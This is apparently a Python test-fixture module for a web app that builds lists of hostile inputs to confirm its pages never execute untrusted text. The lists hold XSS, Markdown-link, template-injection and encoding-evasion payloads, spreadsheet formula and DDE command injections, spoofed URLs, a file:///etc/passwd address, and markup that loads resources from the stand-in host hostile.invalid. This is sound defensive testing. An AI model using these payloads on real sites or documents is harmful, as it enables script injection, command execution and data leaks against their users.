"""Text that wants to be more than text: what assistants, sites and users may send, and no page may run.

Given out as lists, for whoever serves pages: the web's tests read them with an HTML parser, a browser's tests open them.
What runs in a browser calls ``alert``, or asks ``hostile.invalid`` for something, so that both can be seen.
"""

from __future__ import annotations

from typing import Any

from brandq.errors import BadRequest
from brandq.plan import EngineRef, parse

_BIDI = "\u202e\u2066gnihton\u2069\u202c"
_DEEP = 400

#: each is one attempt
PAYLOADS: tuple[str, ...] = (
    # elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>",
    "<scr<script>ipt>alert(2)</scr</script>ipt>",
    "<script\x0c>alert(3)</script\x0c>",
    "<img src=x onerror=alert(4)>",
    "<img/src=`x`onerror=alert(5)>",
    "<svg onload=alert(6)>",
    "<svg><script>alert(7)</script></svg>",
    '<svg><a xlink:href="javascript:alert(8)"><text y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(9) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>",
    "<iframe srcdoc='<script>alert(11)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(12)</script>'></object>",
    "<embed src=javascript:alert(13)>",
    "<base href=//hostile.invalid/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(14)'>",
    "<link rel=stylesheet href=//hostile.invalid/x.css>",
    "<style>*{background:url(//hostile.invalid/leak)}</style>",
    "<form action=//hostile.invalid><input name=csrf><button formaction=javascript:alert(15)>x</button></form>",
    "<details open ontoggle=alert(16)>x</details>",
    "<video><source onerror=alert(17)></video>",
    "<input autofocus onfocus=alert(18)>",
    "<body onload=alert(19)>",
    "<template><script>alert(20)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(21)>'>",
    "<xmp><script>alert(22)</script></xmp><plaintext>",
    "<!--><script>alert(23)</script>-->",
    "<![CDATA[<script>alert(24)</script>]]>",
    "<?xml version='1.0'?><script>alert(25)</script>",
    # out of where it stands
    '"><script>alert(26)</script>',
    "'><img src=x onerror=alert(27)>",
    '" onmouseover=alert(28) x="',
    "' autofocus onfocus='alert(29)",
    "</title><script>alert(30)</script>",
    "</textarea><script>alert(31)</script>",
    "</script><script>alert(32)</script>",
    "</style><script>alert(33)</script>",
    "</pre></code></main></body></html><script>alert(34)</script>",
    '{"x": "</script><img src=x onerror=alert(35)>"}',
    "<!-- <script> --> </script> <!--",
    "--><svg/onload=alert(36)>",
    "</option></select><script>alert(37)</script>",
    "`-alert(38)-`",
    "';alert(39)//",
    "\\';alert(40)//",
    "\u2028alert(41)\u2029",
    # Markdown
    "[a](javascript:alert(42))",
    "[b](JaVaScRiPt:alert(43))",
    "[c](java\tscript:alert(44))",
    "[d](&#106;avascript&#58;alert(45))",
    "[e](data:text/html;base64,PHNjcmlwdD5hbGVydCg0Nik8L3NjcmlwdD4=)",
    "[f](vbscript:msgbox(47))",
    "[g]( javascript:alert(48) 'title')",
    "[h](<javascript:alert(49)>)",
    "![i](javascript:alert(50))",
    "![j](https://hostile.invalid/pixel.png)",
    '![k](x"onerror="alert(51))',
    '[l](https://hostile.invalid/"onmouseover="alert(52))',
    "[m](https://hostile.invalid/'><script>alert(53)</script>)",
    "[n][1]\n\n[1]: javascript:alert(54)",
    '[o]: https://hostile.invalid/ "\'><script>alert(55)</script>"\n\n[o]',
    "<javascript:alert(56)>",
    '<https://hostile.invalid/?"onmouseover=alert(57)>',
    "<a href=javascript:alert(58)>x</a>",
    "[good.example](https://hostile.invalid/)",
    "[https://good.example](https://good.example@hostile.invalid/)",
    "https://good.example\\@hostile.invalid/ https://гооd.example/ //hostile.invalid/",
    "```html\n<script>alert(59)</script>\n```",
    "`<script>alert(60)</script>`",
    "    <script>alert(61)</script>",
    "| a | <script>alert(62)</script> |\n|---|---|\n| \\| | <img src=x onerror=alert(63)> |",
    "# <script>alert(64)</script>\n\n> - 1. <svg/onload=alert(65)>",
    "<" * _DEEP,
    "> " * _DEEP + "x",
    "[" * _DEEP + "x" + "](" * _DEEP,
    "*" * _DEEP + "x" + "_" * _DEEP,
    "\n".join("  " * n + "- x" for n in range(60)),
    "1. x\n99999999999. y\n-1. z",
    # templates, expressions, formulas
    "{{7*7}} {{ csrf }} {{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}{{ x }}{% endfor %}{# x #}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7) *{7*7}",
    "{name} {0} {n:told} {brand.__class__} %s %(x)s %n",
    "datum['constructor']('alert(66)')() [object Object] datum.x",
    '=HYPERLINK("https://hostile.invalid/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    'DDE("cmd";"/C calc";"x")',
    # encodings
    "&lt;script&gt;alert(67)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(68)&amp;gt;",
    "&#60;script&#62;alert(69)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(70)%3C/script%3E",
    "\\u003cscript\\u003ealert(71)\\u003c/script\\u003e",
    "＜script＞alert(72)＜/script＞",
    "<ſcript>alert(73)</ſcript>",
    "+ADw-script+AD4-alert(74)+ADw-/script+AD4-",
    # characters
    f"abc{_BIDI}def\u202d",
    "a\u0300\u0301\u0302\u0303\u0304" * 40,
    "Z̸̡̧̢̛̲̺͙̦͚̗̖̤͓̝̱̀̌͌̊̅̎̿" * 8,
    "\u200b\u200c\u200d\u2060\ufeff",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇨🇳" * 8,
    "مرحبا <script>alert(75)</script> שלום",
    "x" * 250,
    "超" * 250,
    "\x00<script>alert(76)</script>\x00",
    "\x1b[31mred\x07\x08",
    "\ud800<script>alert(77)</script>\udfff",
)
#: addresses that a source may have
ADDRESSES: tuple[str, ...] = (
    "javascript:alert(101)",
    "JAVASCRIPT:alert(102)",
    "data:text/html,<script>alert(103)</script>",
    "vbscript:msgbox(104)",
    'https://hostile.invalid/"onmouseover="alert(105)',
    "https://hostile.invalid/<script>alert(106)</script>",
    "https://good.example@hostile.invalid/",
    "https://good.example\\@hostile.invalid/",
    "https://hostile.invalid:99999/",
    "https://[::1/",
    "https://аррӏе.com/",
    "https://xn--80ak6aa92e.com/",
    "https:///hostile.invalid",
    "//hostile.invalid/x",
    "https://hostile.invalid/\u202egnp.exe",
    "https://hostile.invalid/" + "a" * 3000,
    "file:///etc/passwd",
    "https://hostile.invalid/?a=1&lt=2&quot;",
)


def storable(text: str) -> str:
    """The text as the database can hold it: without null bytes and halves of surrogate pairs."""
    return text.replace("\x00", "").encode("utf-8", "ignore").decode()


def _accepted(**fields: Any) -> bool:
    document = {"brands": ["Acme"], "prompts": ["Which?"], "engines": ["doubao"], **fields}
    try:
        parse(document, lambda wish: EngineRef(wish.name, wish.name, "m"), max_samples=100)
    except BadRequest:
        return False
    return True


#: those that a plan takes, so that pages get to show them as names, aliases, prompts and labels
NAMES = tuple(text for text in (each[:100].strip() for each in PAYLOADS) if _accepted(brands=[text, "Acme"]))
PROMPTS = tuple(text for text in (each[:500] for each in PAYLOADS) if _accepted(prompts=[text]))


def plans(engines: list[str]) -> list[dict[str, Any]]:
    """Plans that have every one of NAMES as a brand and as an alias, and every one of PROMPTS as a prompt."""
    made = []
    for first in range(0, max(len(NAMES), len(PROMPTS)), 9):
        names = list(NAMES[first : first + 9]) or [f"Acme {first}"]
        prompts = list(PROMPTS[first : first + 9]) or ["Which?"]
        aliases = list(NAMES[first + 9 : first + 13])
        made.append(
            {
                "brands": [{"name": "Acme", "aliases": aliases, "domains": ["hostile.invalid"]}, *names],
                "prompts": prompts,
                "engines": engines,
                "label": names[0],
            }
        )
    return made
